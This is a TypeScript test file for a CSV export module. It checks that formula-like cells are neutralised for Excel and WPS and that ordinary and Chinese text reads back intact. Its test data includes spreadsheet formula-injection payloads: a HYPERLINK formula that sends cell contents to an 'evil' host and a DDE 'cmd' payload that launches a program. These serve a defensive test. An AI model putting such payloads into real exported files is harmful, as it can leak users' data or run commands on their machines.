/** CSV for Excel and WPS: RFC 4180 as csv-parse reads it, and no cell a spreadsheet would run as a formula. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cellText, csvCell, toCsv } from '../../src/lib/csv.ts';
import { EVERYTHING, MARKUP } from '../support/hostile-text.ts';

const readBack = (csv: string) => parse(csv, { bom: true, relax_column_count: false }) as string[][];

describe('CSV cells that a spreadsheet would evaluate', () => {
  const formulas = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1:A2)',
    '=HYPERLINK("http://evil/?"&A1,"点击")',
    `=cmd|' /C calc'!A0`,
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '\u3000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    '-5%',
    '-1e3',
  ];
  it.each(formulas)('%j reads back as text behind a single quote, in a quoted cell', (value) => {
    const cell = csvCell(value);
    expect(cell.startsWith(`"'`)).toBe(true);
    const csv = toCsv(['内容'], [[value]]);
    expect(readBack(csv)[1]).toEqual([`'${value.replace(/\r/g, '\n')}`]);
  });

  it('leaves plain numbers, dates, ids and Chinese text as they are', () => {
    const ordinary = [
      '1',
      '1.2',
      '-5',
      '+3.5',
      '-0.25',
      '2022-03-31',
      '已完成',
      '直属机关党委、人事政工部门',
      'a-b',
      '—',
      '（一）',
    ];
    for (const value of ordinary) expect(cellText(value)).toBe(value);
    expect(csvCell(-5)).toBe('-5');
    expect(readBack(toCsv(ordinary, [ordinary]))).toEqual([ordinary, ordinary]);
  });
});

describe('CSV text', () => {
  it('reads back markup, quotes and commas as written', () => {
    const row = [...MARKUP, '甲,乙', '“引号”"ASCII"', '多行\n文字'];
    expect(
      readBack(
        toCsv(
          row.map((_, i) => `列${i}`),
          [row],
        ),
      )[1],
    ).toEqual(row);
  });
  it('carries no control characters, and one line break kind inside cells', () => {
    const [, [cell]] = readBack(toCsv(['x'], [[EVERYTHING]])) as [string[], string[]];
    expect(cell).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\ufffe\uffff]/);
    expect(cell).toContain(MARKUP[0]);
  });
  it('is UTF-8 with a byte-order mark and CRLF line ends', () => {
    const csv = toCsv(['问题', '状态'], [['党组织设置不到位', '已完成']]);
    expect(csv).toBe('\uFEFF问题,状态\r\n党组织设置不到位,已完成\r\n');
  });
});
